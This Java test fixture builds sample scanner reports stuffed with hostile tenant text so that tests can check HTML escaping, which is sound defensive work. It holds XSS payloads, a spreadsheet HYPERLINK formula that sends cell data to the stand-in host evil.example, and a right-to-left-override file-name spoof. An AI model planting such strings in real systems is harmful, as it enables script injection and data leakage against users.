package dev.dspm.scanner.report;

import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;

import dev.dspm.scanner.findings.FindingStatus;
import dev.dspm.scanner.policy.Severity;
import dev.dspm.scanner.remediation.ActionStatus;
import dev.dspm.scanner.remediation.HeldBack;
import dev.dspm.scanner.remediation.RemediationSettings.Mode;
import dev.dspm.scanner.remediation.SkipReason;
import dev.dspm.scanner.report.Changes.WidenedShare;
import dev.dspm.scanner.report.ReportOverview.Exposure;
import dev.dspm.scanner.report.ReportOverview.PolicyCount;
import dev.dspm.scanner.report.ReportOverview.ReportedWaiver;
import dev.dspm.scanner.report.ReportOverview.RunFacts;
import dev.dspm.scanner.report.ReportOverview.RunPoint;
import dev.dspm.scanner.report.ReportOverview.StatusCounts;
import dev.dspm.scanner.findings.FailedRule;
import dev.dspm.scanner.snapshot.ScanScope;
import dev.dspm.scanner.snapshot.TypeTotal;

/**
 * A report's model filled with hostile tenant text, for the HTML tests and the browser tests: names that would
 * run script or break markup if any were written unescaped, control characters, a 5,000-character name,
 * right-to-left, CJK and emoji names. The counts of the overview agree with the rows.
 */
final class ReportSamples {

    static final String SCRIPT_NAME = "<script>window.__pwned=1</script>";
    static final String IMG_NAME = "<img src=x onerror=window.__pwned=1>";
    static final String SVG_NAME = "\"><svg onload=window.__pwned=1>";
    static final String JAVASCRIPT_NAME = "javascript:window.__pwned=1";
    static final String FORMULA_NAME = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    static final String CONTROL_NAME = "tab\there\nline\u0000nul\u001b[31mred\u0085nel\u007f del evil\u202Efdp.exe";
    static final String LONG_NAME = "L".repeat(79) + "\uD83D\uDE80" + "x".repeat(4_920);
    static final String ARABIC_NAME = "\u062A\u0642\u0631\u064A\u0631 \u0627\u0644\u0631\u0648\u0627\u062A\u0628.xlsx";
    static final String HEBREW_NAME = "\u05D3\u05D5\u05D7 \u05E9\u05DB\u05E8 \u05E1\u05D5\u05D3\u05D9.pdf";
    static final String CJK_NAME = "\u6A5F\u5BC6\u306E\u7D66\u4E0E\u30C7\u30FC\u30BF \uACF5\uC720 \uBB38\uC11C.xlsx";
    static final String EMOJI_NAME = "\uD83D\uDE80 launch plan \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67.docx";
    static final String HOSTILE_OWNER = "owner'\"<b>&amp;";
    static final String HOSTILE_EMAIL = "=HYPERLINK(\"x\")<img src=x onerror=window.__pwned=1>@acme.example";
    static final String HOSTILE_UID = "uid\"><script>window.__pwned=1</script>";
    static final String HOSTILE_TENANT = "acme <i>corp</i> & \"co\" \u05D0\u05E7\u05DE\u05D4";
    static final String HOSTILE_RAW_SCOPE = "SHARE_SCOPE_<script>window.__pwned=1</script>";
    /** A dspm.remediation.note-prefix and a server's error message, as they reach the page. */
    static final String HOSTILE_NOTE_PREFIX = "<script>window.__pwned=1</script> CHG-1 &";
    static final String HOSTILE_ERROR = "invalid_argument: <img src=x onerror=window.__pwned=1> \"scope\" & more (HTTP 400)";
    static final String HOSTILE_DETAIL = "the plan has 1,000 actions, more than dspm.remediation.max-actions=50 <b>&amp;</b>";
    /** A rule that failed on three shares, named and quoted as a hostile pack and tenant could make it. */
    static final FailedRule HOSTILE_FAILED_RULE = new FailedRule("Numbered <b>names</b>", "numbered", "policies/numbers.drl", 6, 3,
            HOSTILE_UID, "For input string: \"" + SCRIPT_NAME + "\"");
    /** Actions beyond the listed ones: the page says how many more remediation.csv holds. */
    static final int UNLISTED_ACTIONS = 7;

    static final List<String> HOSTILE_NAMES = List.of(SCRIPT_NAME, IMG_NAME, SVG_NAME, JAVASCRIPT_NAME, FORMULA_NAME,
            CONTROL_NAME, LONG_NAME, ARABIC_NAME, HEBREW_NAME, CJK_NAME, EMOJI_NAME);

    static final Instant STARTED = Instant.parse("2026-05-04T06:00:00Z");

    private static final String[][] POLICIES = {
            { "sensitive-name-exposed", "Sensitive-looking name shared beyond its owner", "CRITICAL", "OWNER" },
            { "public-file-share", "File shared by a public link", "HIGH", "TEAM_ONLY" },
            { "unknown-scope", "Share whose scope is missing or unknown <b>&", "MEDIUM", "TEAM_ONLY" },
            { "public-website-publish", "Website published to the public", "LOW", "" } };
    private static final String[] TYPES = { "FILE_SHARE", "SESSION_SHARE", "PROJECT_SHARE", "WEBSITE_PUBLISH" };
    private static final FindingStatus[] STATUSES = FindingStatus.values();

    /** The report's model, its rows, what changed, and what remediation did. */
    record Sample(ReportOverview overview, Changes changes, RemediationOverview remediation, List<ReportedFinding> rows) {
    }

    private ReportSamples() {
    }

    /**
     * Run 7 against run 6: {@code findings} rows (the hostile names first), every type complete; an apply that
     * permission_denied stopped, with actions of every status.
     */
    static Sample hostile(int findings) {
        return sample(findings, Optional.of(6L), true, remediation(Mode.APPLY, HeldBack.PERMISSION_DENIED, 12));
    }

    /** The tenant's first run: nothing to compare with, every finding NEW; a plan. */
    static Sample firstRun(int findings) {
        return sample(findings, Optional.empty(), true, remediation(Mode.PLAN, null, 5));
    }

    /** As {@link #hostile}, but the FILE_SHARE listing did not finish, which holds the plan back. */
    static Sample incomplete(int findings) {
        return sample(findings, Optional.of(6L), false, remediation(Mode.PLAN, HeldBack.INCOMPLETE_SCAN, 5));
    }

    /** As {@link #hostile}, made with remediation off. */
    static Sample remediationOff(int findings) {
        return sample(findings, Optional.of(6L), true, RemediationOverview.off());
    }

    static Sample sample(int count, Optional<Long> previousRun, boolean complete, RemediationOverview remediation) {
        List<ReportedFinding> rows = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            rows.add(finding(i, previousRun.isEmpty() ? FindingStatus.NEW : STATUSES[i % STATUSES.length]));
        }
        rows.sort(Comparator.comparing(ReportedFinding::severity).reversed()
                .thenComparing(ReportedFinding::status).thenComparing(ReportedFinding::shareUid));
        RunFacts run = new RunFacts(7, HOSTILE_TENANT, STARTED, STARTED.plusSeconds(95), STARTED.plusSeconds(97),
                complete, "AUDIT", new ScanScope(List.of(TYPES), List.of(), null, null, null), previousRun);
        List<TypeTotal> types = new ArrayList<>();
        for (String type : TYPES) {
            boolean typeComplete = complete || !type.equals("FILE_SHARE");
            types.add(new TypeTotal(type, 1_000, typeComplete ? 1_000L : 1_500L, typeComplete));
        }
        types.add(new TypeTotal("SESSION_COLLABORATION", 0, null, null));
        ReportOverview overview = new ReportOverview(run, types, bySeverity(rows), byPolicy(rows), waivers(),
                exposure(rows), history(rows, previousRun.isPresent()), rows.size(), owners(), choices(rows),
                List.of(HOSTILE_FAILED_RULE));
        return new Sample(overview, changes(rows, previousRun.isPresent()), remediation, rows);
    }

    /** The filters' choices over all the rows, as the run's grouped queries count them. */
    static FilterChoices choices(List<ReportedFinding> rows) {
        return new FilterChoices(counted(rows, f -> f.severity().name()), counted(rows, f -> f.status().name()),
                counted(rows, ReportedFinding::policyId), counted(rows, ReportedFinding::assetType),
                counted(rows, f -> f.ownerEmail() != null ? f.ownerEmail() : f.ownerId()),
                counted(rows.stream().filter(f -> f.ownerStatus() != null).toList(), ReportedFinding::ownerStatus));
    }

    private static Map<String, Long> counted(List<ReportedFinding> rows, Function<ReportedFinding, String> value) {
        Map<String, Long> counted = new HashMap<>();
        rows.forEach(f -> counted.merge(value.apply(f), 1L, Long::sum));
        return counted;
    }

    /** A policy's rationale as a hostile pack could write it. */
    static final String HOSTILE_RATIONALE = "</script><script>window.__pwned=1</script> \"rationale\" & \u202E\n=1+1";

    /** The policies of {@link #POLICIES}, as run_policy holds them, each with a hostile rationale; one removed from the pack. */
    static List<ReportedPolicy> policies() {
        List<ReportedPolicy> policies = new ArrayList<>();
        for (String[] policy : POLICIES) {
            policies.add(new ReportedPolicy(policy[0], policy[1], Severity.valueOf(policy[2]),
                    policy[3].isEmpty() ? null : policy[3], !policy[0].equals("public-website-publish"),
                    HOSTILE_RATIONALE + " " + policy[0], true));
        }
        policies.add(new ReportedPolicy("removed-policy", "A policy removed from the pack", Severity.LOW, null, false,
                "gone", false));
        policies.sort(Comparator.comparing(ReportedPolicy::id));
        return policies;
    }

    /** What the report's files start from for this sample. */
    static ReportInput input(Sample sample) {
        return new ReportInput(sample.overview(), sample.remediation(), Instant.parse("2026-05-04T07:00:00Z"), policies());
    }

    /** Enriched, with two owners the run could not match, and the top owners: a hostile address, a departed one, an id. */
    static OwnerOverview owners() {
        return new OwnerOverview(true, 812, 812, true, 2, 5, List.of(HOSTILE_OWNER, "u-404"), List.of(
                new OwnerOverview.TopOwner("u-1", HOSTILE_EMAIL, "ACTIVE", 9, 2, 3),
                new OwnerOverview.TopOwner("u-2", "ann@acme.example", "INACTIVE", 4, 0, 4),
                new OwnerOverview.TopOwner(HOSTILE_OWNER, null, null, 1, 0, 0)));
    }

    /**
     * {@code listed} actions as the page lists them (an apply's of every status: FAILED first, with a hostile error;
     * a plan's all PLANNED), {@value #UNLISTED_ACTIONS} more PLANNED ones unlisted, and 14 skipped for three reasons.
     * Every note has a hostile prefix; the first action has the hostile uid, name and owner.
     */
    static RemediationOverview remediation(Mode mode, HeldBack heldBack, int listed) {
        List<ActionStatus> statuses = mode == Mode.PLAN ? List.of(ActionStatus.PLANNED) : RemediationOverview.LISTED_ORDER;
        Map<ActionStatus, Long> byStatus = RemediationOverview.counts(ActionStatus.class);
        List<ReportedAction> actions = new ArrayList<>();
        for (int i = 0; i < listed; i++) {
            ActionStatus status = statuses.get(i * statuses.size() / listed);
            byStatus.merge(status, 1L, Long::sum);
            actions.add(new ReportedAction(i == 0 ? HOSTILE_UID : String.format("uid-%05d", i), TYPES[i % 2],
                    i == 0 ? SCRIPT_NAME : i == 1 ? ARABIC_NAME : String.format("quarterly-report-%05d.pdf", i),
                    i == 0 ? HOSTILE_OWNER : "owner-" + i, "public-file-share", "PUBLIC", "TEAM_ONLY",
                    HOSTILE_NOTE_PREFIX + " dspm-scanner run 7: policy public-file-share (File shared by a public link) "
                            + "PUBLIC -> TEAM_ONLY", status, null, status == ActionStatus.APPLIED ? "req-" + i : null,
                    status == ActionStatus.FAILED ? HOSTILE_ERROR : null, STARTED.plusSeconds(120 + i),
                    i == 1 ? HOSTILE_EMAIL : i % 2 == 0 && i > 0 ? "owner-" + i + "@acme.example" : null));
        }
        byStatus.merge(ActionStatus.PLANNED, (long) UNLISTED_ACTIONS, Long::sum);
        Map<SkipReason, Long> skipped = RemediationOverview.counts(SkipReason.class);
        skipped.put(SkipReason.WAIVED, 8L);
        skipped.put(SkipReason.GRACE_PERIOD, 4L);
        skipped.put(heldBack == HeldBack.PERMISSION_DENIED ? SkipReason.PERMISSION_DENIED : SkipReason.ALREADY_TIGHT, 2L);
        byStatus.put(ActionStatus.SKIPPED, 14L);
        return new RemediationOverview(mode, null, null, heldBack, heldBack == null ? null : HOSTILE_DETAIL, byStatus, skipped,
                List.copyOf(actions));
    }

    private static ReportedFinding finding(int i, FindingStatus status) {
        String[] policy = POLICIES[i % POLICIES.length];
        String name = i < HOSTILE_NAMES.size() ? HOSTILE_NAMES.get(i) : String.format("quarterly-report-%05d.pdf", i);
        boolean unknownScope = policy[0].equals("unknown-scope");
        Instant firstSeen = STARTED.minus(i % 30, ChronoUnit.DAYS);
        boolean waived = status == FindingStatus.EXCEPTED;
        return new ReportedFinding(i == 0 ? HOSTILE_UID : String.format("uid-%05d", i), TYPES[i % TYPES.length], name,
                i % 3 == 0 ? HOSTILE_OWNER : "owner-" + (i % 7), unknownScope ? "UNKNOWN" : "PUBLIC",
                unknownScope ? HOSTILE_RAW_SCOPE : "SHARE_SCOPE_PUBLIC", "PUBLIC", "SHARE_SCOPE_PUBLIC", true,
                policy[0], Severity.valueOf(policy[2]), policy[1], policy[3].isEmpty() ? null : policy[3], status, 7,
                firstSeen, STARTED, waived ? "owner:<script>window.__pwned=1</script>" : null, waived ? true : null,
                null, ownerEmail(i), i % 3 == 0 ? null : i % 5 == 0 ? "INACTIVE" : "ACTIVE", i % 11 == 1 ? "cy@acme.example" : null, null);
    }

    /** Every third owner unknown to the run (shown by id), one a hostile address, the others ordinary ones. */
    private static String ownerEmail(int i) {
        return i % 3 == 0 ? null : i == 1 ? HOSTILE_EMAIL : "owner-" + (i % 7) + "@acme.example";
    }

    private static Map<Severity, StatusCounts> bySeverity(List<ReportedFinding> rows) {
        Map<Severity, StatusCounts> counts = new EnumMap<>(Severity.class);
        for (Severity severity : Severity.values()) {
            counts.put(severity, counts(rows.stream().filter(f -> f.severity() == severity).toList()));
        }
        return counts;
    }

    private static List<PolicyCount> byPolicy(List<ReportedFinding> rows) {
        List<PolicyCount> policies = new ArrayList<>();
        for (String[] policy : POLICIES) {
            List<ReportedFinding> of = rows.stream().filter(f -> f.policyId().equals(policy[0])).toList();
            if (!of.isEmpty()) {
                policies.add(new PolicyCount(policy[0], policy[1], Severity.valueOf(policy[2]), counts(of)));
            }
        }
        return policies;
    }

    private static StatusCounts counts(List<ReportedFinding> rows) {
        long[] n = new long[STATUSES.length];
        rows.forEach(f -> n[f.status().ordinal()]++);
        return new StatusCounts(n[FindingStatus.NEW.ordinal()], n[FindingStatus.OPEN.ordinal()],
                n[FindingStatus.EXCEPTED.ordinal()], n[FindingStatus.RESOLVED.ordinal()]);
    }

    private static List<Exposure> exposure(List<ReportedFinding> rows) {
        Map<String, Long> open = new LinkedHashMap<>();
        rows.stream().filter(f -> f.status() == FindingStatus.NEW || f.status() == FindingStatus.OPEN)
                .forEach(f -> open.merge(f.assetType() + "|" + f.severity(), 1L, Long::sum));
        return open.entrySet().stream().map(e -> {
            String[] key = e.getKey().split("\\|");
            return new Exposure(key[0], Severity.valueOf(key[1]), e.getValue());
        }).toList();
    }

    private static List<RunPoint> history(List<ReportedFinding> rows, boolean earlierRuns) {
        long open = rows.stream().filter(f -> f.status() == FindingStatus.NEW || f.status() == FindingStatus.OPEN).count();
        RunPoint now = new RunPoint(7, STARTED, open);
        if (!earlierRuns) {
            return List.of(now);
        }
        return List.of(new RunPoint(4, STARTED.minus(3, ChronoUnit.DAYS), open + 12),
                new RunPoint(5, STARTED.minus(2, ChronoUnit.DAYS), open + 5),
                new RunPoint(6, STARTED.minus(1, ChronoUnit.DAYS), open + 9), now);
    }

    private static List<ReportedWaiver> waivers() {
        LocalDate today = LocalDate.of(2026, 5, 4);
        return List.of(
                new ReportedWaiver("owner:<script>window.__pwned=1</script>", "owner_id",
                        "<script>window.__pwned=1</script>", "public-file-share", "<img src=x onerror=window.__pwned=1>",
                        "ciso@acme.example & <b>", today.plusDays(30), true, 5),
                new ReportedWaiver("name_prefix:tmp-", "name_prefix", "tmp-", "public-website-publish", "Temp sites",
                        "ciso@acme.example", today.minusDays(2), false, 0),
                new ReportedWaiver("share:uid-unused", "share_uid", "uid-unused", "public-file-share", "Unused",
                        "ciso@acme.example", today.plusDays(90), true, 0));
    }

    /** At most 5 of each list, as the lead's query pages them; the counts are the full ones. */
    private static Changes changes(List<ReportedFinding> rows, boolean earlierRuns) {
        List<ReportedFinding> fresh = rows.stream().filter(f -> f.status() == FindingStatus.NEW).toList();
        List<ReportedFinding> resolved = rows.stream().filter(f -> f.status() == FindingStatus.RESOLVED).toList();
        List<WidenedShare> widened = earlierRuns ? List.of(
                new WidenedShare(HOSTILE_UID, "FILE_SHARE", SVG_NAME, HOSTILE_OWNER, "TEAM_ONLY", "PUBLIC"),
                new WidenedShare("uid-rtl", "SESSION_SHARE", ARABIC_NAME, "owner-2", "OWNER", "UNKNOWN")) : List.of();
        return new Changes(page(fresh), fresh.size(), page(resolved), resolved.size(), widened,
                widened.size() + (earlierRuns ? 3 : 0));
    }

    private static <T> List<T> page(List<T> list) {
        return list.subList(0, Math.min(5, list.size()));
    }
}
